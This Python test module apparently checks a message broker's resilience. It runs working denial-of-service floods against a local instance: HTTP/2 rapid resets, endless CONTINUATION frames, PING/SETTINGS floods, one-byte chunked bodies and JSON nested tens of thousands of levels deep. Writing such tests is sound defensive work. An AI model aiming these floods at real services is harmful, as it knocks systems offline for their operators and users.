"""Clients that speak HTTP/2 and HTTP/1.1 as no client does: floods of frames, of tiny chunks, of nesting."""

import json
import socket
import time

from attacks import attack, outcome
from broker import Broker
from client import Client, Http2, Other, head


def flooded(program, flood):
    """The outcome of `flood(connection, deadline)` on an HTTP/2 connection for ten seconds. It returns how many frames it sent."""
    with Broker(program) as broker, Other(broker.port, per_second=200) as other:
        connection, sent, ended = Http2(broker.port, window=65_535), 0, "still open"
        connection.socket.settimeout(5)
        began = time.monotonic()
        try:
            sent = flood(connection, began + 10)
        except TimeoutError:
            ended = f"not read any more after {time.monotonic() - began - 5:.1f} s"
        except OSError:
            ended = f"disconnected after {time.monotonic() - began:.1f} s"
        used = broker.processor_seconds()
        return outcome(broker, other, f"{ended}, {sent} frames, {used:.1f} s of processor time")


@attack
def http2_resets(program):
    """Requests over one HTTP/2 connection, each reset at once, for ten seconds."""

    def flood(connection, deadline):
        sent = 0
        while time.monotonic() < deadline:
            connection.post([("content-type", "application/x-amz-json-1.0"), ("x-amz-target", "AmazonSQS.ListQueues")], b"{}")
            connection.socket.sendall(connection.frame(3, 0, connection.stream - 2, (8).to_bytes(4, "big")))
            sent += 1
        return sent

    return flooded(program, flood)


@attack
def http2_continuations(program):
    """A head over HTTP/2 that goes on in CONTINUATION frames of 16 KB and does not end, for ten seconds."""

    def flood(connection, deadline):
        connection.socket.sendall(connection.frame(1, 0, 1, b"\x83\x86"))
        literal, sent = b"\x10\x01x\x7f\x81\x7d" + b"y" * 16_000, 0
        while time.monotonic() < deadline:
            connection.socket.sendall(connection.frame(9, 0, 1, literal[:16_384]))
            sent += 1
        return sent

    return flooded(program, flood)


@attack
def http2_pings_and_settings(program):
    """PING and SETTINGS frames over one HTTP/2 connection whose answers are not read, for ten seconds."""

    def flood(connection, deadline):
        both, sent = connection.frame(6, 0, 0, b"12345678") + connection.frame(4, 0, 0, b""), 0
        while time.monotonic() < deadline:
            connection.socket.sendall(both * 500)
            sent += 1_000
        return sent

    return flooded(program, flood)


@attack
def tiny_chunks(program):
    """A body of 1 MiB in chunks of one byte, over 16 connections at once."""
    with Broker(program) as broker, Other(broker.port, per_second=200) as other:
        top = b"POST / HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/x-amz-json-1.0\r\n"
        top += b"x-amz-target: AmazonSQS.SendMessage\r\ntransfer-encoding: chunked\r\n\r\n"
        clients = [socket.create_connection(("127.0.0.1", broker.port), timeout=20) for _ in range(16)]
        for client in clients:
            client.sendall(top)
        statuses, piece = [], b"1\r\nx\r\n" * 16_384
        for _ in range(64):
            for client in clients:
                try:
                    client.sendall(piece)
                except OSError:
                    pass
        for client in clients:
            try:
                client.sendall(b"0\r\n\r\n")
                statuses.append(client.recv(4096).split(b" ", 2)[1].decode())
            except (OSError, IndexError):
                statuses.append("closed")
        return outcome(broker, other, f"answered {sorted(set(statuses))}, {broker.processor_seconds():.1f} s of processor time")


@attack
def nested_documents(program):
    """Documents of 200,000 nested arrays and objects wherever JSON is read: bodies, policies, filter policies, messages."""
    with Broker(program) as broker, Other(broker.port) as other:
        client = Client(broker.port)
        url = client.queue("queue")
        topic, version = "arn:aws:sns:us-east-1:000000000000:topic", {"Version": "2010-03-31"}
        client.query(Action="CreateTopic", Name="topic", **version)
        queue = "arn:aws:sqs:us-east-1:000000000000:queue"
        policy = {"Attributes.entry.1.key": "FilterPolicy", "Attributes.entry.1.value": json.dumps({"a": {"b": ["c"]}})}
        policy |= {"Attributes.entry.2.key": "FilterPolicyScope", "Attributes.entry.2.value": "MessageBody"}
        client.query(Action="Subscribe", TopicArn=topic, Protocol="sqs", Endpoint=queue, **policy, **version)
        deep = {"[": "[" * 100_000 + "]" * 100_000, "{": '{"a":' * 40_000 + "1" + "}" * 40_000}
        statuses = []
        for text in deep.values():
            headers = {"host": "127.0.0.1", "content-type": "application/x-amz-json-1.0", "x-amz-target": "AmazonSQS.SendMessage"}
            statuses.append(client.exchange(head("POST", "/", headers, len(text)) + text.encode())[0])
            statuses.append(client.call("SetQueueAttributes", QueueUrl=url, Attributes={"Policy": text})[0])
            statuses.append(client.call("SetQueueAttributes", QueueUrl=url, Attributes={"RedrivePolicy": text})[0])
            form = {"SubscriptionArn": topic, "AttributeName": "FilterPolicy", "AttributeValue": text}
            statuses.append(client.query(Action="SetSubscriptionAttributes", **form, **version)[0])
            statuses.append(client.query(Action="Publish", TopicArn=topic, Message=text, **version)[0])
            form = {"MessageStructure": "json", "Message": text}
            statuses.append(client.query(Action="Publish", TopicArn=topic, **form, **version)[0])
        return outcome(broker, other, f"answered {statuses}")
